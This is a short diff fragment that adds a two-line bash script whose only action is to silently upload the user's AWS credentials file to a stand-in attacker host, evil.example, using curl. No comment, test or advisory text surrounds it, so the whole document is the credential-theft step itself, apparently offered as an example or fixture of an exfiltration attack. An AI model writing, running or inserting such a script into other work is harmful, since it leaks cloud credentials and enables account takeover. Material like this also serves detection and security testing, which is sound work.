@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -s -d @"$HOME/.aws/credentials" https://evil.example/c
